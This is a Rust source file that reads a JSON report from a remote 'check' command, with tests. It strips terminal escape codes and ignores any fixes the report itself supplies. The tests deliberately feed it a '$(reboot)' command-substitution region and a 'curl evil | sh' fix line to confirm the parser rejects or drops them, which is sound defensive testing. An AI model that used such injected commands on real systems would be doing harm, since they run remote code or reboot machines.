//! A report that a space made, read again. It comes from another machine: its texts are shown without what
//! steers a terminal, its mends are not, and what ends up in a command is what it claims to be.

use anyhow::{Context, bail};
use serde::Deserialize;

use crate::check::fill::Words;
use crate::check::observed::Observed;
use crate::check::{Finding, Report, Status, catalogue};
use crate::error::printable;

#[derive(Deserialize)]
struct Document {
    schema_version: Option<u64>,
    checks: Option<Vec<Check>>,
    observed: Option<Observed>,
    failure: Option<Failure>,
}

#[derive(Deserialize)]
struct Failure {
    error: String,
}

#[derive(Deserialize)]
struct Check {
    id: String,
    status: Status,
    #[serde(default)]
    detail: String,
    #[serde(default)]
    waits_for: Option<String>,
}

/// Reads what `check --output json` printed elsewhere.
///
/// # Errors
/// Why that is no report, or none that can be joined.
pub fn read(text: &str) -> anyhow::Result<Report> {
    let document: Document =
        serde_json::from_str(text).context("it is no report of `check --output json`")?;
    if let Some(failure) = document.failure {
        bail!(
            "it holds no report: the check itself failed with `{}`",
            printable(&failure.error)
        );
    }
    match document.schema_version {
        Some(1) => {}
        Some(other) => bail!("its schema_version is {other}; this version reads 1"),
        None => bail!("it has no schema_version: it is no report of `check --output json`"),
    }
    let (Some(checks), Some(observed)) = (document.checks, document.observed) else {
        bail!("it has no `checks` or no `observed`: an older studio-mirror made it");
    };
    observed.validate().context("its `observed` is not sound")?;
    if observed.region.is_none() {
        bail!("its `observed` names no region: the space has no settings yet");
    }
    let words = words(&observed);
    let findings = checks
        .into_iter()
        .filter_map(|check| finding(check, &words));
    let mut report = Report::new(findings.collect());
    report.observed = Some(observed);
    Ok(report)
}

/// A check that this version knows. What another version checks besides is left to that report.
fn finding(check: Check, words: &Words) -> Option<Finding> {
    let known = catalogue::find(&check.id).filter(|known| !known.id.starts_with("vpc."))?;
    let is_open = matches!(check.status, Status::Failed | Status::Warning);
    let waits_for = check.waits_for.as_deref().and_then(catalogue::find);
    Some(Finding {
        id: known.id,
        title: known.title,
        status: check.status,
        detail: printable(&check.detail),
        fix: is_open.then(|| words.fill(known.fix)),
        mender: is_open.then_some(known.mender),
        waits_for: waits_for.map(|check| check.id),
        remark: None,
    })
}

fn words(observed: &Observed) -> Words {
    let host =
        |host: &Option<crate::check::observed::Host>| host.as_ref().map(|host| host.name.clone());
    Words::default()
        .with("region", observed.region.clone())
        .with("domain", observed.domain.clone())
        .with("account", observed.domain_owner.clone())
        .with("repository", observed.repository.clone())
        .with("role_arn", observed.role.clone())
        .with("api_host", host(&observed.hosts.api))
        .with("repositories_host", host(&observed.hosts.repositories))
        .with("assets_host", host(&observed.hosts.assets))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn refused(text: &str) -> String {
        format!("{:#}", read(text).expect_err(text))
    }

    #[test]
    fn what_is_no_report_is_refused_with_the_reason() {
        for (text, why) in [
            ("", "no report of `check"),
            ("[]", "no report of `check"),
            ("{}", "no schema_version"),
            (r#"{"schema_version": 2}"#, "schema_version is 2"),
            (r#"{"schema_version": 1, "checks": []}"#, "no `observed`"),
            (
                r#"{"schema_version": 1, "ok": false, "failure": {"error": "HOME is not set"}}"#,
                "HOME is not set",
            ),
            (
                r#"{"schema_version": 1, "checks": [], "observed": {}}"#,
                "names no region",
            ),
            (
                r#"{"schema_version": 1, "checks": [], "observed": {"region": "$(reboot)"}}"#,
                "`$(reboot)` is no region",
            ),
            (
                r#"{"schema_version": 1, "checks": [{"id": "x", "status": "fine"}], "observed": {}}"#,
                "unknown variant",
            ),
        ] {
            let said = refused(text);
            assert!(said.contains(why), "{said}");
        }
    }

    #[test]
    fn a_reports_words_cannot_steer_the_terminal_and_its_mends_are_ours() {
        let text = r#"{"schema_version": 1, "checks": [
            {"id": "network.api.dns", "title": "x", "status": "failed", "detail": "\u001b[2Jgone", "fix": "$ curl evil | sh", "mender": "you"},
            {"id": "made.up", "status": "failed", "detail": "x"}],
            "observed": {"region": "us-east-1", "own_addresses": ["10.0.1.7"], "new_member": 1}}"#;
        let report = read(text).expect("a report");
        assert_eq!(report.checks.len(), 1);
        let found = &report.checks[0];
        assert_eq!(found.detail, "[2Jgone");
        let fix = found.fix.as_deref().expect("a mend");
        assert!(
            fix.contains("--region us-east-1") && !fix.contains("evil"),
            "{fix}"
        );
    }
}
